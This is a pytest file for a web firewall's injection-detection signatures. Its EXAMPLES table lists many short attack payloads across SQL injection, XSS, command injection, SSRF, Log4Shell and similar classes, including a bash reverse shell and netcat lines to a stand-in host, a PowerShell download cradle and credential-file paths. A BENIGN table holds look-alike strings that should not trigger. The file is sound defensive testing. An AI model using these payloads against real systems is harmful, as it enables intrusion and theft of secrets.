"""Every injection signature fires on a hand-written example of its technique and stays silent on
benign input that looks like it (prose with SQL words, URLs, dates, e-mail addresses, paths)."""

from __future__ import annotations

import hyperscan
import pytest

from apishield.checks.decode import variants
from apishield.checks.matcher import default_matcher
from apishield.checks.signatures import CLASSES, SIGNATURES, Signature
from apishield.checks.signatures.base import confine, spread
from apishield.exchange import Severity

EXAMPLES: dict[str, tuple[str, ...]] = {
    "inj.sqli.union-select": ("0 UNION ALL SELECT name, pass FROM users", "1 union/**/select 1"),
    "inj.sqli.stacked-query": (
        "7; DROP TABLE invoices",
        "x'; exec master.dbo.xp_regread",
        "'; GRANT ALL PRIVILEGES ON shop.* TO intruder",
    ),
    "inj.sqli.quote-concat": ("x'||'y'||'", "' || sys.dbms_pipe.receive_message('a',5) || '"),
    "inj.sqli.time-delay": ("1 AND SLEEP(5)", "1'; WAITFOR DELAY '0:0:5'--"),
    "inj.sqli.catalogue": ("1 and 1=(select count(*) from information_schema.tables)",),
    "inj.sqli.dangerous-function": ("1 and extractvalue(1,concat(0x7e,@@version))",),
    "inj.sqli.quote-tautology": ("nobody' OR 'x'='x", 'bob" or 2>1 --', ") or ('a'='a"),
    "inj.sqli.numeric-tautology": ("10 or 2=2 --", "5 AND 1=1"),
    "inj.sqli.quote-comment": ("root'--", "root')/*"),
    "inj.sqli.quote-keyword": ("x' ORDER BY 3", "9' union select null"),
    "inj.sqli.select-from": ("select login, pwd from accounts",),
    "inj.sqli.subquery": ("3 and ascii(substring(user(),1,1))>64",),
    "inj.sqli.sql-function": ("GROUP_CONCAT(email)", "1 and database()"),
    "inj.sqli.postgres-cast": ("(select version())::int", 'x\'::jsonb @> \'{"role":"admin"}'),
    "inj.sqli.sql-clause": (
        "1 and case when 1=1 then 1 else 0 end",
        "procedure analyse()",
        "1.e(ascii(1))",
        "create function f returns int soname 'udf.so'",
    ),
    "inj.sqli.order-by-probe": ("2 order by 12--",),
    "inj.sqli.char-concat": ("char(97)+char(100)+char(109)",),
    "inj.sqli.function-probe": ("md5(", "POW(2", "concat (0x71"),
    "inj.sqli.catalogue-name": ("msdb..sysfiles", "Northwind", "select v$version"),
    "inj.sqli.json-operator": ("""'{"a":"b"}' ? 'a'""", """'[1,2]' < '$[0]' = 1"""),
    "inj.sqli.quote-negation": ('"!"', "Xunionselectfrom", '6 As" from'),
    "inj.sqli.quote-operator": ("A' OR 'B", "'RLIKE'", "x' NOT LIKE 'y"),
    "inj.xss.script-tag": ("<script>fetch('/x')</script>", "<ScRiPt src=//e.example>"),
    "inj.xss.event-handler": ("<img src=x onerror=print()>", "<details open ontoggle=go()>"),
    "inj.xss.attribute-breakout": ('" onfocus="steal()" autofocus x="',),
    "inj.xss.handler-attribute": ("x onmouseover=run()",),
    "inj.xss.script-uri": ("javascript:void(open('//e.example'))", "JaVaScRiPt:top.name"),
    "inj.xss.data-uri": ("data:text/html,<b>hi</b>", "data:image/svg+xml;base64,AAAA"),
    "inj.xss.active-tag": ("<iframe src=//e.example>", "<svg><g/></svg>"),
    "inj.xss.utf7-markup": ("+ADw-img src=x onerror=alert(1)+AD4-",),
    "inj.xss.script-reference": ("[0].map(confirm)", "f=eval;f(x)", "window.onload=confirm"),
    "inj.xss.jsfuck": ("(![]+[])[+!+[]]", "[][(![]+[])[+[]]]"),
    "inj.xss.script-call": (
        "';prompt(document.domain)//",
        "alert?.(document?.cookie)",
        "confirm.call(null,1)",
        "x=document.cookie;",
        "document.cookie=sid=attacker",
        "top[8680439..toString(30)](1)",
        "self[(+{}+[])[+!![]]]",
    ),
    "inj.xss.css-expression": ("width: expression(run())", "-moz-binding:url(x.xml#y)"),
    "inj.xss.style-injection": ('<p style="background:url(//e.example/x)">', "<b datasrc=#x>"),
    "inj.xss.html-comment-breakout": ("--><img src=1>", "</title><b>"),
    "inj.xss.obfuscated-script-uri": ("ja&tab;vascript:go()", "v&newline;bscript&colon;x"),
    "inj.xss.spaced-tag": ("<f o r m action=//e.example>", "<d i a l o g open>"),
    "inj.xss.high-bit-markup": ("%BCscript%BEgo()%BC/script%BE", "\\xbcsvg onload=x\\xbe"),
    "inj.xss.generic-handler": ("x onfreshevent=run()", '" onanything= '),
    "inj.xss.attribute-vector": ('<a xlink:href="//e.example">', "<button formaction=//x>"),
    "inj.rce.chained-command": ("8.8.8.8; uname -a", "file.txt | nc e.example 9", "a && whoami"),
    "inj.rce.leading-command": ("ping -c 3 10.0.0.1", "nohup wget e.example"),
    "inj.rce.command-substitution": ("$(id)", "name=`whoami`"),
    "inj.rce.binary-path": ("/bin/sh", "exec 5<>/dev/tcp/e.example/80"),
    "inj.rce.shell-evasion": ("cat${IFS}notes", "/???/c?t", "w'h'o'ami"),
    "inj.rce.brace-expansion": ("{ls,-la}", "alias ll=rm"),
    "inj.rce.shell-dash-c": ("sh -c 'id'",),
    "inj.rce.shellshock": ("() { :; }; echo vulnerable",),
    "inj.rce.reverse-shell": ("bash -i >& /dev/tcp/e.example/4444 0>&1", "nc -e /bin/sh e.x 9"),
    "inj.rce.windows-batch": ("for %i in (*.txt) do type %i", "if exist c:\\boot.ini echo y"),
    "inj.rce.windows-command": (
        "cmd.exe /c dir",
        "net user guest /active:yes",
        "net localgroup",
        "&& net session",
        "| dir /s D:\\backup",
        "reg query 'HKCU\\Software\\Microsoft'",
        "dir C:\\",
    ),
    "inj.rce.time-probe": ("; sleep 7", "`sleep 3`", "| ping -n 20 127.0.0.1", "sleep 15"),
    "inj.rce.powershell": ("powershell -nop -w hidden -enc AAAA", "IEX (New-Object Net.WebClient)"),
    "inj.rce.redirection": ("echo hi > /tmp/x.sh", "ls 2>&1"),
    "inj.lfi.traversal": (
        "../../../../secret.txt",
        "..\\..\\boot.ini",
        "%2e%2e%2f%2e%2e%2fa",
        "..2f..2fetc2fpasswd",
    ),
    "inj.lfi.encoded-path": ("Li4vLi4vLi4vZXRjL3Bhc3N3ZA==", "L2V0Yy9ob3N0cw=="),
    "inj.lfi.dot-dot": ("../config.yaml", "%2e%2e%2fsecrets.json", "%c0%ae%c0%ae%c0%afkeys"),
    "inj.lfi.sensitive-file": (
        "/etc/shadow",
        "/proc/self/environ",
        "C:\\boot.ini",
        "/master.passwd",
    ),
    "inj.lfi.stream-wrapper": ("php://filter/convert.base64-encode/resource=x", "file:///srv/a"),
    "inj.lfi.windows-system-path": (
        "C:\\Windows\\win.ini",
        "d:/inetpub/wwwroot/web.config",
        "c:\\documents and settings\\administrator\\ntuser.dat",
        "c:/WINDOWS/system32/logfiles/W3SVC1/ex0101.log",
        "C:\\WINDOWS\\setupact.log",
        "c:/Program Files/PostgreSQL/9.1/data/pg_hba.conf",
    ),
    "inj.lfi.server-log": ("/var/log/httpd/access_log", "../../logs/error.log"),
    "inj.lfi.system-path": (
        "/etc/nginx.conf",
        "WEB-INF/web.xml",
        "/usr/local/nginx/conf/nginx.conf",
        "/opt/xampp/apache/logs/error_log",
        "/var/spool/cron/crontabs/root",
        "/usr/share/nginx/html/.htpasswd.bak",
        "D:\\srv\\php\\php.ini",
        "/var/log/cloud-init-output.log",
        "/run/secrets/stripe_key",
        "/boot/config-6.1.0",
        "C:\\Windows\\Panther\\Unattend\\Autounattend.xml",
        "/site/Global.asax",
        "/usr/local/php/lib/php.ini ",
        "/home/postgres/data/postgresql.conf",
        "/var/lib/php5/session/sess_4f0a",
        "/var/log",
    ),
    "inj.lfi.dotfile": (
        "/.git/config",
        "/.env",
        "/.clinerules",
        "/app/.gemini/settings.json",
        "/repo/CLAUDE.md",
        "/.github/copilot-instructions.md",
        "/srv/mcp.json",
        "/home/dev/.Xauthority",
        "/u/.htdigest",
        "deploy/terraform.tfstate.backup",
        "/app/config/master.key",
        "/sys/module/kvm/parameters",
    ),
    "inj.lfi.hidden-directory": ("/.vscode/settings.json", "static/.hg/store"),
    "inj.lfi.hidden-file": ("/.gitlab-ci.yml", "/static/.buildkite_token", "/.wrangler.toml"),
    "inj.lfi.null-truncation": ("report%00.pdf",),
    "inj.rfi.remote-include": ("http://e.example/shell.txt?",),
    "inj.rfi.ip-script": ("http://203.0.113.7/x.php",),
    "inj.rfi.ip-url": ("ftp://198.51.100.4/drop",),
    "inj.rfi.include-param": ("https://e.example/payload.txt", "ftp://e.example/pub/up.phtml"),
    "inj.rfi.include-call": ("include('https://e.example/b')", "require_once data://text/x"),
    "inj.rfi.unc-share": ("\\\\files.e.example\\pub\\x.php", "\\\\e.example@SSL\\dav"),
    "inj.ssrf.loopback-url": ("http://127.1/admin", "http://[::ffff:127.0.0.1]/", "http://0x7f.1/"),
    "inj.ssrf.metadata-url": ("http://169.254.169.254/", "http://metadata.google.internal/"),
    "inj.ssrf.obfuscated-ip-url": ("http://3232235777/", "http://0300.0250.0.1/", "http://10.1/"),
    "inj.ssrf.metadata-path": ("/latest/meta-data/iam/security-credentials/",),
    "inj.ssrf.private-url": ("http://192.168.0.10:8080/", "https://10.1.2.3/"),
    "inj.ssrf.url-confusion": (
        "http://1.1.1.1&@2.2.2.2#@3.3.3.3/",
        "https://a.example@b@c.example/",
    ),
    "inj.ssrf.exotic-scheme": ("gopher://e.example:25/_HELO", "dict://e.example:11211/stat"),
    "inj.ssrf.bare-internal-host": ("localhost:8080/admin",),
    "inj.ssrf.bare-loopback": ("169.254.169.254",),
    "inj.log4shell.jndi": ("${jndi:ldap://e.example/a}",),
    "inj.log4shell.nested-jndi": ("${${lower:j}ndi:${lower:r}mi://e.example/x}",),
    "inj.log4shell.lookup-protocol": ("${${lower:jndi}:${lower:rmi}://e.example/x}",),
    "inj.log4shell.lookup": ("${env:AWS_SECRET_ACCESS_KEY}",),
    "inj.nosqli.operator-key": ("password[$ne]", '{"user": {"$gt": ""}}', "$regex"),
    "inj.nosqli.js-where": ("'; return true; var x='", "db.users.find({})"),
    "inj.xxe.external-entity": ('<!ENTITY xx SYSTEM "file:///srv/a">',),
    "inj.xxe.doctype-entities": ('<!DOCTYPE r [<!ENTITY a "b">]>', '<xi:include href="x"/>'),
    "inj.xxe.entity": ("<!ENTITY b 'c'>",),
    "inj.ssti.template-probe": ("{{ 7*7 }}", "${41+1}", "<%= 3*3 %>"),
    "inj.ssti.template-object-walk": ("{{ ''.__class__.__mro__[1] }}", "{{config.items()}}"),
    "inj.ssti.template-directive": ('<#assign ex="freemarker.template.utility.Execute"?new()>',),
    "inj.ssti.template-expression": ("{{ user.delete() }}",),
    "inj.ssti.python-internals": ("''.__class__.__mro__[1]", 'x|attr("__globals__")'),
    "inj.ssti.template-object": (
        "{{ config }}",
        "{{self._TemplateReference__context}}",
        "{$smarty.now}",
    ),
    "inj.ssti.template-set": (
        "{% set x = cycler.__init__ %}",
        "{%set o=lipsum|attr('x')%}",
        "{% print 9**9**9 %}",
        "<% if 1 == 1 %>7<% end %>",
    ),
    "inj.ssi.ssi-directive": ('<!--#exec cmd="id"-->', '<!-- #include file="/etc/hosts" -->'),
    "inj.ssi.esi-tag": ('<esi:include src="http://203.0.113.9/x"/>', "<esi:vars>$(HTTP_COOKIE)"),
    "inj.ldap.filter-injection": (
        "jdoe)(|(uid=*))",
        "*)(&(objectClass=user)",
        "x)((!(cn=a",
        "(&(uid=admin)(!(&(1=0)(userPassword=q))))",
    ),
    "inj.crlf.header-injection": ("en%0d%0aSet-Cookie: sid=1", "x\r\nLocation: //e.example"),
    "inj.crlf.response-splitting": ("a%0d%0aHTTP/1.1 200 OK", "b\n\n<html>"),
    "inj.crlf.encoded-break": ("x%250d%250aSet-Cookie:a",),
    "inj.crlf.mail-command": ("x\r\nRCPT TO: <a@evil.example>", "\r\nA1 FETCH 1:* (BODY[])"),
    "inj.php.open-tag": ("<?php echo 1; ?>", "<?= $x ?>", "<?echo 1;?>", "<?xml :echo 1;"),
    "inj.php.function-call": ("shell_exec('id')", "system($_GET[c])"),
    "inj.php.include-statement": ('require_once "x.php";', "${'_GET'}", "__halt_compiler();"),
    "inj.php.variable-function": ("$f($arg)", "('sys'.'tem')('id')", '${@system("id")}'),
    "inj.php.bbcode-tag": ("[php]phpinfo()[/php]",),
    "inj.php.superglobal": ("$_SERVER['HTTP_HOST']",),
    "inj.php.config-directive": ("allow_url_include=1",),
    "inj.php.serialized-object": ('O:4:"User":1:{s:4:"role";s:5:"admin";}',),
    "inj.php.serialized-array": ('a:1:{i:0;s:1:"x";}',),
    "inj.php.upload-script": ("avatar.php.jpg", "shell.phtml", ".htaccess"),
    "inj.xss.tag-breakout": ('"><img src=x>', "'/><b>", "a.parentNode.remove()"),
    "inj.xss.html-injection": (
        '<img src="http://evil.example/track.png">',
        "<table background=//x.example/a.png>",
        "<a ping=https://x.example/log href=#>",
    ),
    "inj.sqli.overflow-number": ("4294967296", "-2147483649", "1e309"),
    "inj.xss.html-tag": ("<bgsound src=x>", "<svg><animate attributeName=href>"),
    "inj.php.extension-call": ("array_diff (", "pg_enter_pipeline_mode()", "sodium_x//c\n("),
    "inj.php.comment-call": ("touch/*a*/()", "range /*x*/ ()", "symbol#c\n()"),
    "inj.php.ini-directive": ("memory_limit = 512M", "extension=evil.so", "mbstring.language=x"),
    "inj.php.spaced-superglobal": ("$_S ERVER['REQUEST_URI']", "$_G E T[x]"),
    "inj.php.data-wrapper": ("data:text/plain;base64,PD9waHAgPz4=", "data://text/plain,<?php"),
    "inj.java.runtime-exec": ("java.lang.Runtime", "new ProcessBuilder(cmd)"),
    "inj.java.java-class": ("java.net.URLClassLoader", "javax.naming.InitialContext"),
    "inj.java.framework-class": ("com.opensymphony.xwork2.ActionContext", "org.apache.tomcat.x"),
    "inj.java.gadget-class": ("org.apache.commons.collections.functors.InvokerTransformer",),
    "inj.java.serialized-stream": ("rO0ABXNyABFqYXZh", "aced00057372"),
    "inj.java.serialized-base64": ("token=KztAAUc3IAE",),
    "inj.java.expression-language": ("%{#_memberAccess['allowStaticMethodAccess']=true}",),
    "inj.java.class-loader": ("class.module.classLoader.resources.context.parent",),
    "inj.java.upload-jsp": ("cmd.jsp.", "page.jspx.png"),
    "inj.java.exec-call": ("r.exec('id')",),
    "inj.nodejs.node-serialize": ('{"x":"_$$ND_FUNC$$_function(){}()"}',),
    "inj.nodejs.node-module": ("require('child_process').exec('id')", "process.env", "x=require;"),
    "inj.nodejs.endless-loop": ("while(true);", "while(!0)", "for(;;){}", "while(-Infinity)"),
    "inj.nodejs.js-code": (
        "function(){ return 1 }()",
        "this.constructor",
        "[].constructor.constructor",
    ),
    "inj.nodejs.node-base64": (
        "eyJyY2UiOiJfJCRORF9GVU5DJCRfZnVuY3Rpb24oKXt9KCkifQ==",
        "d2hpbGUodHJ1ZSk7Cg==",
    ),
    "inj.prototype_pollution.proto-key": ("__proto__[admin]", "constructor.prototype.isAdmin"),
    "inj.perl.interpolation": ("@{[system 'id']}", "@@{ [ `id` ] }"),
    "inj.ruby.ruby-exec": ('Process.spawn("id")', "Kernel.exec('id')", "%x{id}"),
    "inj.session_fixation.cookie-set": (
        'document.cookie="sid=1; domain=.e.example"',
        '<meta http-equiv="Set-Cookie" content="sid=1">',
    ),
    "inj.scanner.scanner-agent": (
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
        "Fuzz Faster U Fool v2.0.0",
    ),
    "inj.scanner.oast-domain": (
        "http://k3j2h4g5.oastify.com/x",
        "${jndi:ldap://c5f2a1.interact.sh/a}",
        "ping -c1 a1b2.burpcollaborator.net",
    ),
}

BENIGN = (
    "I sleep 8 hours and the kids sleep 10",
    "net income 2024",
    "grant access to the finance team",
    "C: drive is full",
    "C:\\Users\\anna\\Documents\\invoice.pdf",
    "logs/access.log rotated nightly",
    "the {{ name }} placeholder",
    "set the alert, then wait",
    "A+ rating",
    "{% if user %}Hello {{ user.name }}{% endif %}",
    "{{ request.user.username }} at {{ app.name }}",
    "{% set greeting = 'Hi' %}",
    "C:/logos/acme.png",
    "data:image/png;base64,iVBORw0+ADwKGgo+AD4AAAANSUhEUgAA",
    "hi; grant them access to the folder",
    "was%20executed%20%28.e.g.%20a%20message%20was%20blocked%29",
    "matrix [1] + [2] = [3]",
    "on sale=confirm at checkout",
    "(&(objectClass=person)(|(cn=ann*)(mail=ann*)))",
    "D:\\Windows\\System32\\notepad.exe",
    "Please select a seat from the list",
    "The union selected its new representative on Friday",
    "I'd like to describe the script of the play",
    "Subscription renews on 2024-03-31 at 10:00",
    "maria.garcia+billing@example.com",
    "+44 20 7946 0958",
    "(555) 010-4477",
    "https://www.example.com/products?id=42&sort=price",
    "/home/alice/documents/report-2024.pdf",
    "C:\\Users\\alice\\Documents\\notes.txt",
    "Tom & Jerry; the cat and mouse show",
    "hello; more than that",
    "Drop me a line, or call at 5",
    "It's 5 o'clock somewhere",
    "Order by phone: 0800 123 456",
    "We love JavaScript: it runs everywhere",
    "Operating system (OS) and file(s) attached",
    "onboarding=complete",
    "price was $5 (five dollars)",
    "Rock 'n' roll -- forever",
    "Version 2.1 - release notes",
    "localhost",
    '{"name": "Alice", "tags": ["a", "b"]}',
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "The expression on her face said everything",
    "Arsenal canal evaluation",
    "Where to eat near the station?",
    "/.well-known/openid-configuration",
    "https://api.example.com/v1.2/users/42",
    "10.5% off; valid until Sunday",
    "a < b and c > d",
    "while (foo) is bar.",
    "while(false) { }",
    "The process. Next step",
    "urlgrabber/3.10 yum/3.4.3",
    "The constructor of the prototype car",
    '"foo" AND "bar" AND',
    'BILLEEVERSBOUTIQUE , BROWNING "LIKE"',
    "flying to an altitude of convert (0.46 miles)",
    "Price in Rand (ZAR)",
    "left up (for right handed users)",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg",
    "Java script: a beginner's guide",
    "Hello @{name}, welcome",
    "memory limit = 512M",
    "xcheckdate()",
    "t=1614308115,v1=5257a869e7ecebeda32a",
    "Jenny Nessus",
    "user(s) to invite",
    "de_matten sitzbez\\xc3\\xbcge > fu\\xc3\\x9fmatten",
    'V1_OTHER_1"><IMG CLASS="SIZE-FULL WP-IMAGE-2764',
    "<xmpmeta> @importance",
    '<?xml version="1.0"?><?xpacket end="w"?><?mso-application progid="Word.Document"?>',
    "Please include the invoice.pdf file",
    "mail (letters) arrive daily",
    "<IMG SRC=",
    '<x:xmpmeta xmlns:x="adobe:ns:meta/">',
    'see <a href="https://example.com/docs">the docs</a>',
    "2147483647",
    "4294967295",
    "`GET` or `POST`",
    "'yes' or 'no'",
    "/get/javascript-manual/document.cookie",
    "the window [see below] opens",
    "/docs/agents-guide.md",
    "/blog/claude-monet.html",
    "//cdn.example.com/img/logo.png",
    "ftp://files.example.com/exports/2024-05.csv",
    "https://hooks.example.com/v1/callback?state=9f1c",
    "https://1.2.3.4.example.com/avatar.png",
    "Upgrade from 1.2.3.4 to 1.2.3.5",
    "/usr/local/bin/report-cli",
    "/var/lib/app/cache",
    "..",
    "release v1..v2 diff",
    "/docs/windows/debugging.html",
    "/var/logs",
    "/api/sys/status",
    "user.login",
    "config/settings.yml",
    "/.well-known",
    "/reports/.5",
    "/api/.",
    ".csv",
    "nginx.conf",
    "include the file https://example.com/terms in the email",
    "https://user@example.com/inbox?to=a@b.example",
    "https://example.com?email=a@b.example&cc=c@d.example",
    "release v1..2fix",
    "Li4 is a name",
    "/var/logs/app/readme.txt",
    "C:\\Windows\\Fonts\\arial.ttf",
    "Pick (one) or (both) = fine",
    "ls 300 lexus",
    "please confirm.call me back",
    "Notes\nQuit\nData",
    "first line\nA1 list of items",
    "Steps:\nA1 login with your card and PIN\nB2 fetch 2 boxes from the shelf",
    "hooks go to https://webhook.site/abc",
    "(&(objectClass=person)(uid=jdoe))",
)


def _fired(text: str) -> set[str]:
    return {sig.rule_id for _, sig in default_matcher().scan(variants(text))}


@pytest.mark.parametrize(
    ("rule_id", "example"),
    [(rule_id, example) for rule_id, examples in EXAMPLES.items() for example in examples],
)
def test_signature_fires_on_its_technique(rule_id: str, example: str) -> None:
    assert rule_id in _fired(example)


@pytest.mark.parametrize("text", BENIGN)
def test_benign_look_alikes_stay_silent(text: str) -> None:
    assert _fired(text) == set()


def test_every_signature_has_an_example() -> None:
    assert {sig.rule_id for sig in SIGNATURES} == set(EXAMPLES)


def test_rule_ids_are_unique_and_name_their_class() -> None:
    ids = [sig.rule_id for sig in SIGNATURES]
    assert len(ids) == len(set(ids))
    for sig in SIGNATURES:
        assert sig.cls in CLASSES
        assert sig.rule_id.startswith(f"inj.{sig.cls}.")
        assert sig.severity in (Severity.HIGH, Severity.MEDIUM)
        assert sig.flags & hyperscan.HS_FLAG_CASELESS or sig.rule_id.endswith("-base64")


@pytest.mark.parametrize("sig", SIGNATURES, ids=lambda sig: sig.rule_id)
def test_pattern_compiles_alone(sig: Signature) -> None:
    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
    database.compile(expressions=[sig.pattern.encode()], flags=sig.flags)


def test_confine_keeps_patterns_off_the_newline() -> None:
    assert confine(r"a\s+b") == "a[\\t\\x0b\\x0c\\r ]+b"
    assert confine(r"[^>]*") == "[^\\n>]*"
    assert confine(r"[\s/]") == "[\\t\\x0b\\x0c\\r /]"
    assert confine(r"\[\s*\]") == "\\[[\\t\\x0b\\x0c\\r ]*\\]"
    assert confine(r"[]a]") == "[\\]a]"
    assert confine(r"[\r\n]x\n") == "[\\r\\r]x\\r"
    assert confine(r"[^\n]") == "[^\\n\\n]"
    assert confine(r"^a$") == "\\na\\n"
    assert confine(r"[$^]") == "[$^]"


def test_spread_needs_a_break_inside_the_word() -> None:
    pattern = spread("form", r"\s")
    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
    database.compile(expressions=[pattern.encode()], flags=[hyperscan.HS_FLAG_CASELESS])
    found: list[int] = []
    for text in (b"f o r m", b"fo rm", b"form"):
        hits: list[int] = []
        database.scan(text, match_event_handler=lambda *args, hits=hits: hits.append(1))
        found.append(len(hits))
    assert found[0] and found[1] and not found[2]
